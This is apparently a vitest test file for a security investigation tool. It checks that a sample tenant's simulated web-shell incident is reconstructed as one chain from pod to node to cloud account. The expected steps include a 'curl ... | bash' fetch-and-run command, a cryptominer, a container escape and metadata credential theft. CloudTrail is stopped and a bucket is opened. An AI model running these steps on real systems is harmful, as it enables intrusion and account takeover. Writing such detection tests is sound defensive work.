import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { investigate } from '../../../src/extension/core/investigate/investigate.ts';
import type { Case } from '../../../src/extension/core/model/case.ts';
import type { Clock, Log } from '../../../src/extension/core/model/ports.ts';
import { createReadTools } from '../../../src/extension/core/tools/catalog.ts';
import { type Connection, connect } from '../../../src/extension/core/tools/connection.ts';
import type { ReadTools } from '../../../src/extension/core/tools/readTools.ts';
import { connectInMemory } from '../../../src/extension/sample/inMemory.ts';
import { createSampleTenant } from '../../../src/extension/sample/tenant.ts';
import { words } from './read.ts';

const now = Date.UTC(2026, 5, 10, 9, 41);
const clock: Clock = { now: () => now, sleep: async () => undefined };
const log: Log = { write: () => undefined };
const tenant = { name: 'sample', sample: true } as const;
const { signal } = new AbortController();

let connection: Connection;
let tools: ReadTools;

beforeAll(async () => {
  const sample = createSampleTenant({ now: () => now });
  const reached = await connect({ label: tenant, address: 'sample', open: () => connectInMemory(sample) }, { clock, log, signal });
  if (reached.state !== 'reachable') throw reached.failure;
  connection = reached.connection;
  tools = createReadTools(connection, clock, log);
});
afterAll(() => connection.close());

async function investigated(title: string): Promise<Case> {
  const { value } = await tools.read('list_threats_engine_groups', { limit: 50, status: 'open' }, signal);
  const group = value.groups.find((one) => one.title === title);
  if (group === undefined) throw new Error(`no group ${title}`);
  return investigate(group.id, { tools, clock, narrator: { say: () => undefined }, log, signal, tenant });
}

function flow(of: Case) {
  if (of.flow.status !== 'done') throw new Error(of.flow.reason);
  return of.flow.value;
}

const groups = [
  'Cryptominer dropped through storefront web shell',
  'Instance credentials stolen from the metadata service',
  'Access key created, CloudTrail stopped and bucket opened',
];

describe('the web-shell incident of the sample tenant', () => {
  it.each(groups)(
    '[K-03] [I-05] has one chain from the pod over its node to the account, whichever group it starts from: %s',
    async (title) => {
      const { steps, links, boundaries, unlinked } = flow(await investigated(title));
      const kind = (id: string) => boundaries.find((one) => one.id === id)?.kind;
      expect(steps.map((step) => [kind(step.boundary), words(step.action)])).toEqual([
        ['container', 'java wrote /usr/local/tomcat/webapps/ROOT/health.jsp'],
        ['container', 'java started bash -c curl -s http://198.51.100.23/i.sh | bash'],
        ['container', 'bash started kdevtmpfsi -o pool.example:3333 from /dev/shm/.x/kdevtmpfsi'],
        ['container', 'kdevtmpfsi connected to 203.0.113.77 port 3333'],
        ['container', 'nsenter escaped from its container to the host'],
        ['container', 'kdevtmpfsi -o pool.example:3333 ran from /dev/shm/.x/kdevtmpfsi'],
        ['host', 'curl asked the instance metadata service'],
        ['cloud', 'ec2-role-storefront called CreateAccessKey on backup-admin from 198.51.100.23'],
        ['cloud', 'backup-admin called StopLogging on org-trail from 198.51.100.23'],
        ['cloud', 'backup-admin called DeleteBucketPublicAccessBlock on acme-orders from 198.51.100.23'],
        ['cloud', 'backup-admin called PutBucketPolicy on acme-orders from 198.51.100.23'],
      ]);
      const ends = new Set(links.map((link) => link.to));
      expect(steps.filter((step) => !ends.has(step.id)).map((step) => step.role)).toEqual(['entry']);
      expect(links.filter((link) => link.inferred)).toEqual([]);
      expect(unlinked).toEqual([]);
    },
  );

  it('[I-10] the chain is no background of itself, and what was quiet is one sentence', async () => {
    const { resource } = await investigated(groups[0] ?? '');
    if (resource.status !== 'done') throw new Error(resource.reason);
    const told = resource.value.map((one) => words(one.phrase)).join('\n');
    expect(told).not.toMatch(/Execution from \/dev\/shm|Run shell untrusted|Change thread namespace/);
    expect(told).toContain('Contact K8S API Server From Container fired once at');
    expect(told.match(/no other .* event/g)).toHaveLength(1);
  });
});

describe('the limitations of the web-shell incident', () => {
  it('[I-26] what was skipped for one reason is one sentence that cites why for each part of it', async () => {
    const { limitations, coverage } = await investigated(groups[0] ?? '');
    const skipped = coverage.filter((one) => one.status === 'skipped' && one.reason === 'nothing ties it to the trigger');
    const told = limitations.filter((one) => words(one.phrase).includes('nothing ties it to the trigger'));
    expect(skipped.map(({ name }) => name)).toEqual(['defence evasion elsewhere', 'persistent cloud credentials elsewhere']);
    expect(told.map((one) => words(one.phrase))).toEqual([
      'Skipped: defence evasion elsewhere and persistent cloud credentials elsewhere (nothing ties it to the trigger).',
    ]);
    expect(told[0]!.cites).toEqual([...new Set(skipped.flatMap(({ cites = [] }) => cites))]);
  });
});

describe('the other incidents', () => {
  it('[K-03] an SSH login is the way in of what its session planted', async () => {
    const { rationale, summary } = await investigated('Cron job and systemd unit planted after an SSH login');
    expect(words(rationale[1]!.phrase)).toBe('It came in through a login over sshd from 203.0.113.41.');
    expect(words(summary[0]!.phrase)).toMatch(/^sshd took a connection from 203\.0\.113\.41 on host bastion-02\.corp\.example at /);
  });

  it('[I-27] an e-mail address is no process', async () => {
    const { processEvidence } = await investigated('Shell opened in the ledger pod by dana@acme.example');
    if (processEvidence.status !== 'done') throw new Error(processEvidence.reason);
    expect(processEvidence.value.map((one) => words(one.phrase))).toEqual(['The description says that sh started cat.']);
  });
});
